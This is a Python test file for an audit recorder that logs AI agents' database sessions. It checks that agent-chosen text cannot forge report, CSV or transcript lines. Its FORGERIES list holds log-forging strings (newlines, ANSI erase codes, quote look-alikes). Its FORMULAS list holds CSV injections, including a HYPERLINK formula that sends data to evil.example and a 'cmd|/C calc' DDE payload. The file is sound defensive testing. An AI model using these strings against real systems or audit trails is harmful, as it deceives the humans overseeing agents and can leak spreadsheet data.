"""Session 37: the audit answer cannot be forged by what an agent chooses, on hand-made index
rows (no proxy; through the proxy: tests/integration/test_s37_audit_forgery.py).

An agent chooses the text of its statements, its parameters, the server's messages (a
``RAISE`` says anything), its ``application_name``, the channels it listens on, its savepoint
names, and, before any login, the user and database names a refused login records.

* The text report: every such value is a SQL literal (``'...'``, its quotes doubled; an
  escape string ``E'...'`` where it holds what cannot be printed as it is), so that where
  the agent's bytes begin and end is the report's. Was: ``SELECT 1 params ["x"]`` printed
  the line of ``SELECT 1`` bound to ``x``; a refused login's database ``app: revoked 28000
  FORGED`` went on as the line's reason; a backslash and ``n`` in a name read as a newline.
  Each test parses the literal where the report puts it (``literal_at``) and finds the value
  whole, and the report's own words after it.
* The CSV: a cell an agent's bytes reach that starts as a formula (``=``, ``+``, ``-``,
  ``@``, tab, carriage return) or with a quote gets a leading ``'`` (OWASP); the proxy's own
  fields (times, numbers) never do.
* JSON and OCSF carry the values exactly, as data; a sentence of ours that names a channel
  or a savepoint quotes it.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from devtools.testing import command_complete, error, query, ready
from recorder.audit import index, ocsf
from recorder.audit.answer import Filters, audit, write_csv, write_json, write_text
from recorder.audit.cli import _table
from tests.support.audit_index import Index, us
from tests.support.audit_recordings import Session
from tests.support.literals import literal_at

# what an agent writes to pass its bytes for the report's own words: line starts (newline,
# carriage return, U+2028, NEL), a terminal's erase, a closing quote and the report's words
# after it, a backslash and n, a quote look-alike, a bidirectional override
FORGERIES = [
    "x\n    10:00:00.000 [allowed scope.read] 'SELECT 1'",
    "x\r  2026-12-01T12:00:09Z 'bot' from 10.0.0.1:1 to 'app': password",
    "x\u2028forged line",
    "x\u0085forged line",
    "x\x1b[2K\x1b[1Gforged",
    'x\' params ["y"]',
    "x'' (0.1 ms)",
    "a\\nb",
    "a\nb",
    "it\u2019s ' closed",
    "abc\u202edef",
    "E'x'",
    "\\",
]


def after(text: str, head: str, *, nth: int = 0) -> tuple[str, str]:
    """The literal that follows ``head`` (its ``nth`` occurrence) in ``text``: its value and
    the rest of its line."""
    at = -1
    for _ in range(nth + 1):
        at = text.index(head, at + 1)
    start = at + len(head)
    value, end = literal_at(text, start)
    return value, text[end : text.index("\n", end)]


def statement(n: int, text: str, **extra) -> dict:
    return {
        "session_id": "s1", "n": n, "ts": us(1 + n), "ended_at": us(1.1 + n),
        "duration_ms": 1.0, "grant_id": "g1", "agent": "bot", "task": "T", "protocol": "simple",
        "text": text, "decision": "allowed", "rule": "scope.read", "outcome": "ok",
        "command_tag": "SELECT 1", "verified": True, **extra,
    }  # fmt: skip


def index_with(value: str) -> Index:
    """One grant, one session: ``value`` as a statement's text, a parameter, an error
    message, the application_name (the client's and the one upstream), the channel of a
    notification received and of one withheld, and a refused login's user, database and
    message."""
    ix = Index().stream()
    ix.grant_event("grant.issued", "g1", 0, 600)
    ix.session(
        "s1",
        "g1",
        1,
        50,
        application_name=value,
        upstream_application_name=f"pgw:0123456789abcdef/{value}",
    ).opened("s1", 1)
    index._insert(ix.con, "statements", [
        statement(1, value),
        statement(2, "SELECT $1", params=json.dumps([value])),
        statement(3, "SELECT f()", outcome="error", command_tag=None, sqlstate="P0001",
                  message=value),
    ])  # fmt: skip
    index._insert(ix.con, "session_events", [
        {"session_id": "s1", "seq": 4, "ts": us(10), "kind": "notification",
         "payload": json.dumps({"channel": value, "pid": 77, "bytes": 18}), "verified": True},
        {"session_id": "s1", "seq": 5, "ts": us(11), "kind": "notification.withheld",
         "payload": json.dumps({"channel": value, "bytes": 30, "rule": "deny.listen"}),
         "verified": True},
    ])  # fmt: skip
    ix.event("login.refused", 20, {
        "agent": value, "database": value, "grant": None, "client": "10.0.0.9:4000",
        "reason": "password", "sqlstate": "28P01", "message": value})  # fmt: skip
    return ix.fold()


def report(ix: Index, f: Filters | None = None) -> str:
    out = io.StringIO()
    write_text(audit(ix.con, f or Filters(task="T")), out)
    return out.getvalue()


# --- the text report ------------------------------------------------------------------


def test_a_statement_ending_in_params_reads_apart_from_one_bound_to_it():
    """``SELECT 1 params ["x"]`` with no parameters and ``SELECT 1`` bound to ``x`` printed
    the same line: which ran with which value was the agent's to say."""
    ix = Index().stream()
    ix.grant_event("grant.issued", "g1", 0, 600)
    ix.session("s1", "g1", 1, 50).opened("s1", 1)
    index._insert(ix.con, "statements", [
        statement(1, 'SELECT 1 params ["x"]'),
        statement(2, "SELECT 1", params='["x"]'),
    ])  # fmt: skip
    text = report(ix.fold())
    forged = after(text, "[allowed scope.read] ", nth=0)
    real = after(text, "[allowed scope.read] ", nth=1)
    assert forged == ('SELECT 1 params ["x"]', ""), text
    assert real == ("SELECT 1", ' params ["x"]'), text


@pytest.mark.parametrize("value", FORGERIES)
def test_every_value_an_agent_chose_is_one_literal_the_report_delimits(value):
    text = report(index_with(value), Filters())
    assert all(c.isprintable() for line in text.splitlines() for c in line), text
    # each value whole inside its literal, and what follows it the report's own words
    assert after(text, "  12:00:02Z [allowed scope.read] ") == (value, ""), text
    got, rest = after(text, "  12:00:03Z [allowed scope.read] ")
    assert got == "SELECT $1" and rest.startswith(" params "), text
    assert json.loads(rest[len(" params ") :]) == [value]
    got, rest = after(text, "12:00:04Z [allowed scope.read] 'SELECT f()'\n        -> ERROR P0001 ")
    assert got == value and rest == " (1.0 ms)", text
    got, rest = after(text, " tls None  application_name ")
    assert got == value and rest.startswith("  upstream None backend pid None as "), text
    got, rest = after(text, "  upstream None backend pid None as ")
    assert (got, rest) == (f"pgw:0123456789abcdef/{value}", ""), text
    got, rest = after(text, "12:00:10Z NOTIFICATION ")
    assert (got, rest) == (value, " (18 bytes) received (from backend pid 77)"), text
    got, rest = after(text, "12:00:11Z NOTIFICATION ")
    assert got == value and rest.startswith(" (30 bytes) WITHHELD deny.listen:"), text
    # the refused login's line: its user, database and message, each a literal
    got, line = after(text, "REFUSED LOGINS AND CONNECTIONS (1)\n  2026-12-01T12:00:20Z ")
    assert got == value and line.startswith(" from 10.0.0.9:4000 to "), text
    database, end = literal_at(line, len(" from 10.0.0.9:4000 to "))
    assert database == value and line[end:].startswith(": password 28P01 "), line
    message, end = literal_at(line, end + len(": password 28P01 "))
    assert message == value and line[end:] == "", line
    # its denial: the agent a literal
    got, rest = after(text, "2026-12-01T12:00:20Z login      ")
    assert got == value and rest.startswith(" password 28P01: "), text
    # the withheld notification's denial: the channel quoted inside the message
    got, rest = after(text, "2026-12-01T12:00:11Z notification 'bot' deny.listen : ")
    assert got.startswith("notification on channel ") and rest == "", text
    channel, end = literal_at(got, len("notification on channel "))
    assert channel == value and got[end:] == " (30 bytes) withheld from the client", got


def test_a_refused_logins_names_cannot_write_its_reason():
    """A database named ``app: revoked 28000 FORGED`` went on as the line's reason."""
    ix = Index().stream()
    ix.event("login.refused", 20, {
        "agent": "bot", "database": "app: revoked 28000 FORGED [grant g1, task T]",
        "grant": None, "client": "10.0.0.9:4000", "reason": "password", "sqlstate": "28P01",
        "message": "password authentication failed"})  # fmt: skip
    text = report(ix.fold(), Filters())
    assert (
        "'bot' from 10.0.0.9:4000 to 'app: revoked 28000 FORGED [grant g1, task T]': password "
        "28P01 'password authentication failed'\n"
    ) in text, text


def test_a_newline_and_a_backslash_n_in_a_name_read_apart():
    """A name was escaped and quoted, its backslashes not doubled: ``'a\\nb'`` was a
    newline and a backslash and ``n`` alike."""
    real, literal = report(index_with("a\nb")), report(index_with("a\\nb"))
    assert "application_name E'a\\nb'" in real and "NOTIFICATION E'a\\nb'" in real, real
    assert "application_name 'a\\nb'" in literal and "NOTIFICATION 'a\\nb'" in literal, literal


def test_a_quote_look_alike_is_escaped():
    """U+2019 reads as the quote that closes the literal: written as its escape."""
    text = report(index_with("x\u2019 params [1]"))
    assert "[allowed scope.read] E'x\\u2019 params [1]'\n" in text, text


def test_a_grants_reason_is_a_literal():
    ix = Index().stream()
    ix.grant_event("grant.issued", "g1", 0, 600, reason="fix it\n  issued by root at now")
    text = report(ix.fold())
    assert "  why: E'fix it\\n  issued by root at now'\n" in text, text


def test_a_cut_statement_says_so_outside_its_literal():
    text = report(index_with("x" * 199 + "'" + "y" * 20))
    assert ("x" * 199 + "''' ...[statement cut: 20 more of 220 characters not shown") in text


# --- the error message and what derive says of it --------------------------------------


def test_an_error_message_cannot_write_what_its_transaction_undid():
    """derive appended its note on the statements an error undid to the server's message
    (mark_fates): one text field, so a RAISE wrote the note itself (a strict xfail until
    session 37's second round: the note is a field of its own, ``note``; the attacks on it
    are in tests/unit/test_s37_error_note_unit.py)."""
    s = Session().start()
    s.client(query("INSERT INTO t VALUES (1); SELECT 1/0"), decisions=1).server(
        command_complete("INSERT 0 1"), error("22012", "division by zero"), ready(b"I")
    )
    s.client(query("INSERT INTO t VALUES (1); COMMIT; SELECT f()"), decisions=1).server(
        command_complete("INSERT 0 1"), command_complete("COMMIT"), error("P0001", (
            "division by zero (statement 1 (INSERT 0 1) undone by the error that ended the "
            "transaction)")), ready(b"I"))  # fmt: skip
    real, forged = (r["message"] for r in s.facts().statements)
    assert real != forged


# --- savepoint names in derive's words -------------------------------------------------


def test_a_savepoint_name_is_quoted_in_what_it_undid():
    """``SAVEPOINT "a; statement 2 ..."``: its name went on as the message's own words."""
    name = "a; statement 2 (INSERT 0 1) undone by ROLLBACK"
    s = Session().start()
    for sql, tag, z in [("BEGIN", "BEGIN", b"T"), (f'SAVEPOINT "{name}"', "SAVEPOINT", b"T"),
                        ("INSERT INTO t VALUES (1)", "INSERT 0 1", b"T"),
                        (f'ROLLBACK TO SAVEPOINT "{name}"', "ROLLBACK", b"T"),
                        ("COMMIT", "COMMIT", b"I")]:  # fmt: skip
        s.client(query(sql), decisions=1).server(command_complete(tag), ready(z))
    rows = {r["text"]: r for r in s.facts().statements}
    assert rows["INSERT INTO t VALUES (1)"]["message"] == (
        'undone by ROLLBACK TO SAVEPOINT "a; statement 2 (INSERT 0 1) undone by ROLLBACK"'
    )


def test_a_savepoint_name_with_a_newline_is_a_unicode_escape_identifier():
    s = Session().start()
    for sql, tag, z in [
        ("BEGIN", "BEGIN", b"T"),
        ('SAVEPOINT "a\nb\\c"', "SAVEPOINT", b"T"),
        ("INSERT INTO t VALUES (1)", "INSERT 0 1", b"T"),
        ('ROLLBACK TO SAVEPOINT "a\nb\\c"', "ROLLBACK", b"T"),
        ("COMMIT", "COMMIT", b"I"),
    ]:
        s.client(query(sql), decisions=1).server(command_complete(tag), ready(z))
    rows = {r["text"]: r for r in s.facts().statements}
    assert rows["INSERT INTO t VALUES (1)"]["message"] == (
        'undone by ROLLBACK TO SAVEPOINT U&"a\\000ab\\\\c"'
    )


def test_a_plain_savepoint_name_reads_as_before():
    s = Session().start()
    for sql, tag, z in [("BEGIN", "BEGIN", b"T"), ("SAVEPOINT a", "SAVEPOINT", b"T"),
                        ("INSERT INTO t VALUES (1)", "INSERT 0 1", b"T"),
                        ("ROLLBACK TO SAVEPOINT a", "ROLLBACK", b"T"),
                        ("COMMIT", "COMMIT", b"I")]:  # fmt: skip
        s.client(query(sql), decisions=1).server(command_complete(tag), ready(z))
    rows = {r["text"]: r for r in s.facts().statements}
    assert rows["INSERT INTO t VALUES (1)"]["message"] == "undone by ROLLBACK TO SAVEPOINT a"


def test_a_cursor_name_is_a_literal_in_what_the_answer_says_of_it():
    """A cursor whose name a function returned as text (s35 round 4): its name was Python's
    ``repr`` in the message (``"it's"``, or ``'a\\nb'`` for a newline), not a SQL literal as
    every other name the answer quotes."""
    import struct

    from devtools.testing import data_row, frame, row_description, sync

    name = "it's\nx"
    s = Session().start()
    s.client(query("BEGIN"), decisions=1).server(command_complete("BEGIN"), ready(b"T"))
    s.client(query("SELECT open_text()"), decisions=1)
    s.server(
        row_description("open_text"), data_row(name), command_complete("SELECT 1"), ready(b"T")
    )
    s.client(frame(b"E", name.encode() + b"\x00" + struct.pack("!i", 0)), sync(), decisions=1)
    s.server(data_row("hidden"), command_complete("SELECT 1"), ready(b"T"))
    row = s.facts().statements[2]
    assert row["message"].startswith("a cursor E'it''s\\nx' no statement recorded opened;"), row


# --- the CSV ---------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
]


def csv_rows(ix: Index, f: Filters | None = None) -> list[dict]:
    out = io.StringIO()
    write_csv(audit(ix.con, f or Filters()), out)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize("value", FORMULAS)
def test_no_agent_value_reaches_a_spreadsheet_as_a_formula(value):
    rows = csv_rows(index_with(value))
    guarded = "'" + value
    by_n = {r["n"]: r for r in rows if r["kind"] == "statement"}
    assert by_n["1"]["text"] == guarded
    assert by_n["3"]["message"] == guarded
    (received,) = [r for r in rows if r["kind"] == "notification"]
    (withheld,) = [r for r in rows if r["kind"] == "notification.withheld"]
    assert received["text"] == withheld["text"] == guarded
    (refused,) = [r for r in rows if r["kind"] == "login.refused"]
    assert (refused["agent"], refused["database"], refused["message"]) == (guarded,) * 3
    # a parameter's cell is its JSON list: it starts with [, and stays as it is
    assert json.loads(by_n["2"]["params"]) == [value]


@pytest.mark.parametrize("value", ["x\rforged", "x\r2026-12-01T12:00:09Z", "\r"])
def test_a_carriage_return_cannot_end_a_csv_row(value):
    """Python's writer quoted a newline, not a lone CR (without a comma or a quote in the
    value), which a spreadsheet and Python's own reader take for a row's end: the rest of
    the agent's text, and of its row's cells, read as a row of its own."""
    out = io.StringIO()
    write_csv(audit(index_with(value).con, Filters()), out)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert {len(r) for r in rows} == {30}, rows
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    by_n = {r["n"]: r for r in rows if r["kind"] == "statement"}
    guarded = "'" + value if value.startswith("\r") else value
    assert by_n["1"]["text"] == by_n["3"]["message"] == guarded
    assert len(rows) == len(csv_rows(index_with("x")))


def test_a_grants_free_text_is_guarded_too():
    ix = Index().stream()
    ix.grant_event("grant.issued", "g1", 0, 600, reason="=cmd()", by="@admin", task="T")
    (row,) = [r for r in csv_rows(ix.fold()) if r["kind"] == "grant.issued"]
    assert (row["why"], row["by"], row["reason"]) == ("'=cmd()", "'@admin", "'@admin")


def test_the_proxys_own_fields_are_not_guarded():
    """Times, ids, numbers (a negative duration of a clock stepped back), rules, outcomes:
    the proxy's, never an agent's, as they are; and a value that starts as no formula."""
    ix = Index().stream()
    ix.grant_event("grant.issued", "g1", 0, 600)
    ix.session("s1", "g1", 1, 50).opened("s1", 1)
    index._insert(ix.con, "statements", [statement(1, "SELECT 1", duration_ms=-1.5, rows=-1)])
    (row,) = [r for r in csv_rows(ix.fold()) if r["kind"] == "statement"]
    assert (row["duration_ms"], row["rows"], row["text"]) == ("-1.5", "-1", "SELECT 1")
    assert row["ts"].startswith("2026-") and row["rule"] == "scope.read"


def test_the_csv_columns_are_unchanged():
    out = io.StringIO()
    write_csv(audit(index_with("=1").con, Filters()), out)
    assert out.getvalue().splitlines()[0] == (
        "ts,kind,grant_id,agent,task,session_id,n,text,params,decision,rule,reason,outcome,"
        "command_tag,rows,sqlstate,message,duration_ms,verified,by,why,database,scopes,enforce,"
        "not_before,expires_at,previous_expires_at,happened_at,client,db_denied_rule"
    )


# --- sessions and audit --sql: the same rules ------------------------------------------


def test_a_tables_text_cells_cannot_write_a_line_or_a_column(capsys):
    rows = [{"agent": "bot\n2026 | forged | row", "n": -1, "at": "2026-12-01T12:00:00Z",
             "none": None, "plain": "SELECT 1"}]  # fmt: skip
    _table(rows, list(rows[0]), "text")
    out = capsys.readouterr().out.splitlines()
    assert out[1] == "E'bot\\n2026 | forged | row' | -1 | 2026-12-01T12:00:00Z |  | SELECT 1", out
    _table([{"v": "=1+1", "n": -1, "at": "2026-12-01T12:00:00Z"}], ["v", "n", "at"], "csv")
    assert capsys.readouterr().out.splitlines()[1] == "'=1+1,-1,2026-12-01T12:00:00Z"


# --- JSON and OCSF carry the values exactly ----------------------------------------------


@pytest.mark.parametrize("value", FORGERIES + FORMULAS)
def test_json_and_ocsf_carry_the_agents_values_as_data(value):
    ix = index_with(value)
    out = io.StringIO()
    write_json(audit(ix.con, Filters()), out)
    a = json.loads(out.getvalue())
    (s,) = a["grants"][0]["sessions"]
    texts = {r["n"]: r for r in s["statement_rows"]}
    assert texts[1]["text"] == value and texts[3]["message"] == value
    assert json.loads(texts[2]["params"]) == [value]
    assert s["application_name"] == value
    assert [x["channel"] for x in s["notifications"]] == [value, value]
    (r,) = a["refused_logins"]
    assert (r["agent"], r["database"], r["message"]) == (value,) * 3
    events = list(ocsf.events(ix.con))
    got = {e["query_info"]["query_string"] for e in events if e.get("query_info", {}).get(
        "query_string") is not None}  # fmt: skip
    assert value in got
    (w,) = [e for e in events if e["unmapped"].get("event") == "notification.withheld"]
    assert w["unmapped"]["channel"] == value
    # the sentence of ours that names the channel quotes it
    head = "notification on channel "
    channel, end = literal_at(w["status_detail"], len(head))
    assert channel == value and w["status_detail"][end:] == " withheld from the client"
    (login,) = [e for e in events if e["unmapped"].get("event") == "login.refused"
                or e.get("user", {}).get("name") == value]  # fmt: skip
    assert login["user"]["name"] == value


# --- found outside recorder/audit/: the replay's transcript ------------------------------


def test_the_replays_transcript_cannot_be_written_by_a_statement():
    """recorder/replay.py (Transcript.line and its callers) printed a statement's text, the
    server's message and row values as they were: a newline wrote a transcript line of its
    own, an ANSI escape reached the terminal (a strict xfail until session 37's second round;
    its assertion asked for no line holding ``forged`` at all, which a transcript that shows
    the message cannot give: each value is now one literal of its line, and the whole family
    is in tests/unit/test_s37_replay_literals_unit.py)."""
    from recorder.replay import Transcript

    s = Session().start()
    s.client(query("SELECT 1\n[   0.000002s] ok allowed scope.write\x1b[2K"), decisions=1)
    s.server(command_complete("SELECT 1"), error("P0001", "boom\n[   0.1s] !! forged"), ready(b"I"))
    out = io.StringIO()
    t = Transcript(out)
    for r in s.records:
        t.feed(r)
    lines = out.getvalue().splitlines()
    assert all(c.isprintable() for line in lines for c in line), lines
    assert all(ln.startswith(("[", "-- ")) for ln in lines), lines
    # the forged words only inside the literal of the line that carries them
    assert not [x for x in lines if "forged" in x and " <= ERROR P0001: E'boom\\n" not in x], lines
    assert not [x for x in lines if "scope.write" in x and " => E'SELECT 1\\n" not in x], lines
    (q,) = [x for x in lines if " => " in x]
    assert literal_at(q, q.index(" => ") + 4) == (
        "SELECT 1\n[   0.000002s] ok allowed scope.write\x1b[2K",
        len(q),
    )
    (e,) = [x for x in lines if " <= ERROR " in x]
    assert literal_at(e, e.index("P0001: ") + 7) == ("boom\n[   0.1s] !! forged", len(e))
